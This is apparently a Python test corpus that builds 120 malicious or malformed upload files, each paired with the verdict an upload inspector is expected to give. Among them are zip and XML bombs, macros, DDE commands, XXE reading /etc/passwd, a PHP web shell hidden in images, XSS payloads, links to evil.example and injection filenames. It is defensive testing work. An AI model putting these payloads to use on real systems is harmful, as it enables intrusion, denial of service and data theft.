# ruff: noqa: E501 - the corpus reads as a table
"""A hundred and twenty files that somebody might upload, made by code, each with what is to become of it.

``CORPUS``: (group, name, make, expected). ``make()`` gives the bytes; expected is a reason (:class:`Why`) for which the file
is refused, or :data:`KEPT`: it is taken, and what it should not carry is gone from the copy. Security design, H1.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
from docx import Document
from openpyxl import Workbook
from PIL import Image, PngImagePlugin

from submissions.inspection import Why

KEPT = "kept"
SECRET = "Night Ferry Collective"  # stands where it must not be found again
EICAR = (r"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + r"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*").encode()
CORPUS: list[tuple[str, str, Callable[[], bytes], str]] = []


def case(group: str, name: str, expected: str) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    def remember(make: Callable[[], bytes]) -> Callable[[], bytes]:
        CORPUS.append((group, name, make, expected))
        return make

    return remember


# ------------------------------------------------------------------------------------------------ honest files


def docx(text: str = "Bench book", author: str = "") -> bytes:
    document = Document()
    document.add_paragraph(text)
    document.core_properties.author = author
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def xlsx(*rows: list[Any], creator: str = "") -> bytes:
    book = Workbook()
    for row in rows or [["Year", "Judges"], [2025, 40]]:
        book.active.append(row)
    book.properties.creator = creator
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def odt(body: str = "<text:p>Bench book</text:p>", more: dict[str, bytes] | None = None, kind: str = "text") -> bytes:
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
        ' xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0"'
        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:dc="http://purl.org/dc/elements/1.1/"'
        ' xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"'
    )
    content = f"<office:document-content {spaces}><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    meta = f"<office:document-meta {spaces}><office:meta><dc:creator>{SECRET}</dc:creator></office:meta></office:document-meta>"
    return packed(
        {
            "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
            "content.xml": content.encode(),
            "meta.xml": meta.encode(),
            "META-INF/manifest.xml": b"<manifest/>",
            **(more or {}),
        }
    )


def pdf(change: Callable[[pikepdf.Pdf], None] | None = None, **options: Any) -> bytes:
    document = pikepdf.new()
    document.add_blank_page()
    if change:
        change(document)
    out = io.BytesIO()
    document.save(out, **options)
    return out.getvalue()


def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (10, 120, 200)).save(out, kind, **options)
    return out.getvalue()


def packed(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, content in files.items():
            archive.writestr(name, content, compress_type=zipfile.ZIP_STORED if name == "mimetype" else method)
    return out.getvalue()


def with_parts(data: bytes, more: dict[str, bytes], replace: Callable[[str, bytes], bytes] | None = None) -> bytes:
    """An office file with other parts, and with some of its own changed."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    if replace:
        files = {name: replace(name, content) for name, content in files.items()}
    return packed({**files, **more})


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def in_body(inside: str) -> Callable[[str, bytes], bytes]:
    def change(name: str, content: bytes) -> bytes:
        if name != "word/document.xml":
            return content
        return content.replace(b"<w:body>", f"<w:body>{inside}".encode(), 1)

    return change


# ------------------------------------------------------------------------------------------------ bombs (8)

ZEROS = b"\x00" * (60 * 1024 * 1024)


@case("zip bomb", "flat.docx", Why.UNPACKS)
def _flat() -> bytes:
    return with_parts(docx(), {"word/big.xml": ZEROS})


@case("zip bomb", "many-parts.docx", Why.UNPACKS)
def _many() -> bytes:
    return with_parts(docx(), {f"word/part{number}.xml": b"<a/>" for number in range(2_500)})


@case("zip bomb", "twenty-thousand.zip", Why.TYPE)
def _twenty_thousand() -> bytes:
    return packed({f"{number}": b"" for number in range(20_000)}, zipfile.ZIP_STORED)


@case("zip bomb", "nested.docx", Why.EMBEDDED)
def _nested() -> bytes:
    return with_parts(docx(), {"word/inner.zip": packed({"a": packed({"b": b"0" * 100_000})})})


@case("zip bomb", "overlapping.xlsx", Why.UNPACKS)
def _overlapping() -> bytes:
    data = bytearray(xlsx())
    # two entries of the directory at the end lead to one and the same part
    first = data.index(b"PK\x01\x02")
    second = data.index(b"PK\x01\x02", first + 4)
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    name = data[first + 46 : first + 46 + struct.unpack_from("<H", data, first + 28)[0]]
    return bytes(data) if name else b""


@case("zip bomb", "lying-size.docx", Why.BROKEN)
def _lying() -> bytes:
    data = bytearray(with_parts(docx(), {"word/lie.xml": b"<a>" + b" " * 500_000 + b"</a>"}))
    at = data.rindex(b"word/lie.xml") - 46
    struct.pack_into("<I", data, at + 24, 40)  # says that it unpacks to forty bytes
    return bytes(data)


@case("zip bomb", "declared.xlsx", Why.UNPACKS)
def _declared() -> bytes:
    data = bytearray(xlsx())
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<I", data, at + 24, 0xF0000000)
    return bytes(data)


@case("zip bomb", "quine-shaped.docx", Why.EMBEDDED)
def _quine() -> bytes:
    inner = docx()
    return with_parts(inner, {"word/r.docx": inner})


# ------------------------------------------------------------------------------------------------ macros (10)

MACRO_TYPE = b"application/vnd.ms-word.document.macroEnabled.main+xml"


def _types(name: str, content: bytes) -> bytes:
    wanted = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return content.replace(wanted, MACRO_TYPE) if name == "[Content_Types].xml" else content


for _name, _make, _why in [
    ("macro.docm", lambda: with_parts(docx(), {"word/vbaProject.bin": b"\x00VBA"}, _types), Why.SCRIPT),
    ("macro-renamed.docx", lambda: with_parts(docx(), {"word/vbaProject.bin": b"\x00VBA"}), Why.SCRIPT),
    ("macro-type-only.docx", lambda: with_parts(docx(), {}, _types), Why.SCRIPT),
    ("macro.xlsm", lambda: with_parts(xlsx(), {"xl/vbaProject.bin": b"\x00VBA"}), Why.SCRIPT),
    ("macro-sheet.xlsx", lambda: with_parts(xlsx(), {"xl/macrosheets/sheet1.xml": b"<a/>"}), Why.SCRIPT),
    ("active-x.docx", lambda: with_parts(docx(), {"word/activeX/activeX1.xml": b"<a/>"}), Why.SCRIPT),
    ("custom-ui.docx", lambda: with_parts(docx(), {"customUI/customUI.xml": b"<a/>"}), Why.SCRIPT),
    ("program.docx", lambda: with_parts(docx(), {"word/media/run.exe": b"MZ"}), Why.SCRIPT),
    ("basic.odt", lambda: odt(more={"Basic/Standard/Module1.xml": b"<a/>"}), Why.SCRIPT),
    ("listener.odt", lambda: odt('<script:event-listener script:language="ooo:script"/>'), Why.SCRIPT),
]:
    CORPUS.append(("macro", _name, _make, _why))

# -------------------------------------------------------------------------------- what reaches outside (12)

WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def _formula(text: str) -> Callable[[], bytes]:
    def make() -> bytes:
        def change(name: str, content: bytes) -> bytes:
            if not name.startswith("xl/worksheets/sheet"):
                return content
            return content.replace(
                b"<sheetData>", b'<sheetData><row r="99"><c r="A99"><f>' + text.encode() + b"</f></c></row>"
            )

        return with_parts(xlsx(), {}, change)

    return make


for _name, _make, _why in [
    ("remote-template.docx", lambda: with_parts(docx(), {"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://evil.example/t.dotm")}), Why.OUTSIDE),
    ("remote-picture.docx", lambda: with_parts(docx(), {"word/_rels/x.rels": relation("image", "http://evil.example/1.png")}), Why.OUTSIDE),
    ("file-link.docx", lambda: with_parts(docx(), {"word/_rels/x.rels": relation("hyperlink", "file:///etc/passwd")}), Why.OUTSIDE),
    ("share-link.docx", lambda: with_parts(docx(), {"word/_rels/x.rels": relation("hyperlink", "\\\\evil.example\\share")}), Why.OUTSIDE),
    ("web-link.docx", lambda: with_parts(docx(), {"word/_rels/x.rels": relation("hyperlink", "https://example.org/")}), KEPT),
    ("dde.docx", lambda: with_parts(docx(), {}, in_body("<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>")), Why.OUTSIDE),
    ("include.docx", lambda: with_parts(docx(), {}, in_body('<w:p><w:fldSimple w:instr="INCLUDETEXT http://evil.example/"/></w:p>')), Why.OUTSIDE),
    ("ole.docx", lambda: with_parts(docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}), Why.EMBEDDED),
    ("external-book.xlsx", lambda: with_parts(xlsx(), {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}), Why.OUTSIDE),
    ("dde.xlsx", _formula("cmd|'/C calc'!A0"), Why.OUTSIDE),
    ("webservice.xlsx", _formula('WEBSERVICE("http://evil.example/")'), Why.OUTSIDE),
    ("remote-picture.odt", lambda: odt('<draw:image xlink:href="http://evil.example/1.png"/>'), Why.OUTSIDE),
]:  # fmt: skip
    CORPUS.append(("outside", _name, _make, _why))

# ------------------------------------------------------------------------------------------------ PDF (12)


def acting(**action: Any) -> Callable[[], bytes]:
    def change(document: pikepdf.Pdf) -> None:
        document.Root.OpenAction = pikepdf.Dictionary(Type=pikepdf.Name.Action, **action)

    return lambda: pdf(change)


def _on_the_page(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(
                Subtype=pikepdf.Name.Link, A=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
            )
        ]
    )


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["run.exe"] = b"MZ"


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = pikepdf.Dictionary(XFA=pikepdf.Array([]), Fields=pikepdf.Array([]))


def _names(document: pikepdf.Pdf) -> None:
    script = document.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)"))
    document.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["a", script])))


def _link(document: pikepdf.Pdf) -> None:
    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI="http://evil.example/" + SECRET.replace(" ", ""))
    document.pages[0].Annots = pikepdf.Array(
        [document.make_indirect(pikepdf.Dictionary(Subtype=pikepdf.Name.Link, A=uri))]
    )


def _author(document: pikepdf.Pdf) -> None:
    document.docinfo["/Author"] = SECRET
    with document.open_metadata() as meta:
        meta["dc:creator"] = [SECRET]


def _remark(document: pikepdf.Pdf) -> None:
    note = pikepdf.Dictionary(Subtype=pikepdf.Name.Text, T=SECRET, Contents="Please check", M="D:20260101")
    document.pages[0].Annots = pikepdf.Array([document.make_indirect(note)])


def _rich(document: pikepdf.Pdf) -> None:
    document.pages[0].Annots = pikepdf.Array([pikepdf.Dictionary(Subtype=pikepdf.Name.RichMedia)])


LOCKED = pikepdf.Encryption(owner="o", user="u")
for _name, _make, _why in [
    ("opens-script.pdf", acting(S=pikepdf.Name.JavaScript, JS="app.alert(1)"), Why.SCRIPT),
    ("launches.pdf", acting(S=pikepdf.Name.Launch, F="cmd.exe"), Why.SCRIPT),
    ("sends-form.pdf", acting(S=pikepdf.Name.SubmitForm, F="http://evil.example/"), Why.SCRIPT),
    ("script-on-page.pdf", lambda: pdf(_on_the_page), Why.SCRIPT),
    ("script-in-names.pdf", lambda: pdf(_names), Why.SCRIPT),
    ("attachment.pdf", lambda: pdf(_attached), Why.EMBEDDED),
    ("xfa.pdf", lambda: pdf(_xfa), Why.SCRIPT),
    ("film.pdf", lambda: pdf(_rich), Why.EMBEDDED),
    ("password.pdf", lambda: pdf(encryption=LOCKED), Why.PASSWORD),
    ("owner-password.pdf", lambda: pdf(encryption=pikepdf.Encryption(owner="o", user="")), Why.PASSWORD),
    ("link.pdf", lambda: pdf(_link), KEPT),
    ("author.pdf", lambda: pdf(_author), KEPT),
]:
    CORPUS.append(("pdf", _name, _make, _why))

# ------------------------------------------------------------------------------- markup as anything else (10)

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
for _name, _data in [
    ("picture.svg", SVG),
    ("page.html", b"<!DOCTYPE html><html><script>alert(1)</script></html>"),
    ("page.txt", b"\n  <html><body onload=alert(1)></html>"),
    ("page.pdf", b"<html>%PDF-1.7</html>"),
    ("page.png", b"<script>alert(1)</script>"),
    ("table.csv", b"a,b\n<script>alert(1)</script>,1\n"),
    ("xml.txt", b'<?xml version="1.0"?><a/>'),
    ("php.txt", b"Notes\n<?php system('id'); ?>\n"),
    ("wide.txt", "\ufeff<html><script>alert(1)</script>".encode("utf-16-le")),
    ("svg-later.txt", b"My notes\n\n" + SVG),
]:
    CORPUS.append(("markup", _name, lambda data=_data: data, Why.TYPE))

# ------------------------------------------------------------------------------------------------ polyglots (10)


def _comment_in_jpeg(text: bytes) -> bytes:
    data = picture("JPEG")
    return data[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + data[2:]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PHP = b"<?php system($_GET['c']); /* Night Ferry Collective */ ?>"
for _name, _make, _why in [
    ("gif-script.gif", lambda: b"GIF89a/*" + b"\x00" * 20 + b"*/=1;alert(1)", Why.TYPE),
    ("pdf-zip.pdf", lambda: pdf() + packed({"run.txt": SECRET.encode()}), KEPT),
    ("zip-pdf.docx", lambda: pdf() + docx(), KEPT),  # a PDF by its beginning: what follows is gone
    ("pdf-page.pdf", lambda: pdf() + b"<script>alert('Night Ferry Collective')</script>", KEPT),
    ("page-before.pdf", lambda: b"<script>alert(1)</script>" + pdf(), Why.TYPE),
    ("jpeg-php.jpg", lambda: _comment_in_jpeg(PHP), KEPT),
    ("jpeg-appended.jpg", lambda: picture("JPEG") + PHP, KEPT),
    ("png-appended.png", lambda: picture("PNG") + packed({"run.txt": SECRET.encode()}), KEPT),
    ("png-chunk.png", lambda: picture("PNG")[:-12] + _chunk(b"teXt", PHP) + picture("PNG")[-12:], KEPT),
    ("program-docx.docx", lambda: b"MZ" + b"\x00" * 64 + docx(), Why.TYPE),
]:
    CORPUS.append(("polyglot", _name, _make, _why))

# -------------------------------------------------------------------------- pictures: bombs and what they tell (10)


def _huge_png(width: int, height: int) -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 1000))
        + _chunk(b"IEND", b"")
    )


def _exif(kind: str) -> bytes:
    exif = Image.Exif()
    exif[0x013B] = SECRET  # artist
    exif[0x0112] = 6  # lies on its side
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (46.0, 12.0, 8.0)
    return picture(kind, exif=exif)


def _text_png() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Author", SECRET)
    info.add_itxt("XML:com.adobe.xmp", f"<x>{SECRET}</x>")
    return picture("PNG", pnginfo=info)


for _name, _make, _why in [
    ("wide.png", lambda: _huge_png(60_000, 60_000), Why.UNPACKS),
    ("tall.png", lambda: _huge_png(1, 2_000_000_000), Why.UNPACKS),
    ("just-too-many.png", lambda: _huge_png(8_000, 8_000), Why.UNPACKS),
    ("exif.jpg", lambda: _exif("JPEG"), KEPT),
    ("exif.png", lambda: _exif("PNG"), KEPT),
    ("text.png", _text_png, KEPT),
    ("comment.jpg", lambda: picture("JPEG", comment=SECRET.encode()), KEPT),
    ("profile.jpg", lambda: picture("JPEG", icc_profile=SECRET.encode() * 10), KEPT),
    ("xmp.jpg", lambda: picture("JPEG", xmp=f"<x>{SECRET}</x>".encode()), KEPT),
    ("moves.png", lambda: picture("PNG", save_all=True, append_images=[Image.new("RGB", (40, 30))]), KEPT),
]:
    CORPUS.append(("picture", _name, _make, _why))

# ------------------------------------------------------------------------------- EICAR, the harmless virus (8)


def _eicar_pdf(document: pikepdf.Pdf) -> None:
    document.attachments["note.txt"] = EICAR


for _name, _make, _why in [
    ("eicar.txt", lambda: EICAR, Why.VIRUS),
    ("eicar.com", lambda: EICAR, Why.VIRUS),
    ("eicar.csv", lambda: EICAR + b"\n", Why.VIRUS),
    ("eicar.zip", lambda: packed({"eicar.com": EICAR}), Why.TYPE),
    ("eicar-in-zip.zip", lambda: packed({"inner.zip": packed({"eicar.com": EICAR})}), Why.TYPE),
    ("eicar.docx", lambda: with_parts(docx(), {"word/media/image1.emf": EICAR}), Why.VIRUS),
    ("eicar-part.docx", lambda: with_parts(docx(), {"word/embeddings/note.txt": EICAR}), Why.EMBEDDED),
    ("eicar.pdf", lambda: pdf(_eicar_pdf), Why.EMBEDDED),
]:
    CORPUS.append(("virus", _name, _make, _why))

# ------------------------------------------------------------------------------------------------ names (20)

NAMES = [
    "../../etc/passwd.txt", "..\\..\\windows\\system.txt", "/etc/cron.d/job.txt", "C:\\boot.txt", "invoice\u202egpj.txt",
    "a\x00b.txt", "n" * 300 + ".txt", "CON.txt", "NUL", "LPT1.txt", "report.pdf.exe", "report.exe.txt", ".htaccess",
    "r\u0435port.txt", "re\u200bport.txt", "report.txt;rm -rf", "<script>.txt", "%2e%2e%2fpasswd.txt", "report\r\nSet-Cookie: a.txt",
    "Night Ferry Collective – 月.txt",
]  # fmt: skip
for _name in NAMES:
    CORPUS.append(("name", _name, lambda: b"Forty judges took part.\n", KEPT))

# ----------------------------------------------------------------------------------- another thing than its name (10)

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
for _name, _make, _why in [
    ("picture.pdf", picture, KEPT),
    ("pdf.png", pdf, KEPT),
    ("program.pdf", lambda: b"MZ\x90\x00" + bytes(range(256)), Why.TYPE),
    ("old.doc", lambda: OLE, Why.TYPE),
    ("locked.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), Why.PASSWORD),
    ("film.jpg", lambda: b"\x00\x00\x00\x18ftypmp42" + b"\x00" * 100, Why.TYPE),
    ("archive.docx", lambda: packed({"a.txt": b"a"}), Why.TYPE),
    ("rar.pdf", lambda: b"Rar!\x1a\x07\x00" + bytes(range(128, 256)), Why.TYPE),
    ("slides.docx", lambda: packed({"[Content_Types].xml": b"<Types/>", "ppt/presentation.xml": b"<p/>"}), Why.TYPE),
    ("elf.txt", lambda: b"\x7fELF\x02\x01\x01" + b"\x00" * 60, Why.TYPE),
]:
    CORPUS.append(("wrong name", _name, _make, _why))

# ------------------------------------------------------------------------------------- empty, cut off, noise (6)

NOISE = random.Random(54_28).randbytes(4_000)
for _name, _make, _why in [
    ("empty.pdf", lambda: b"", Why.EMPTY),
    ("spaces.txt", lambda: b"   \n\t ", Why.EMPTY),
    ("cut.pdf", lambda: b"%PDF-1.7\n" + NOISE, Why.BROKEN),
    ("cut.png", lambda: picture("PNG")[:60], Why.BROKEN),
    ("cut.docx", lambda: docx()[:2_000], Why.BROKEN),
    ("noise.txt", lambda: b"\xff" * 5_000, Why.TYPE),
]:
    CORPUS.append(("broken", _name, _make, _why))

# ------------------------------------------------------------------------------------------------ XML bombs (4)

LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]><l>&j;</l>"
)
READS = '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY x SYSTEM "file:///etc/passwd">]><l>&x;</l>'
for _name, _make in [
    ("laughs.docx", lambda: with_parts(docx(), {"word/document.xml": LAUGHS.encode()})),
    ("reads.xlsx", lambda: with_parts(xlsx(), {"xl/sharedStrings.xml": READS.encode()})),
    ("laughs-wide.docx", lambda: with_parts(docx(), {"word/styles.xml": LAUGHS.replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")})),
    ("reads.odt", lambda: odt(more={"styles.xml": READS.encode()})),
]:  # fmt: skip
    CORPUS.append(("xml bomb", _name, _make, Why.UNPACKS))
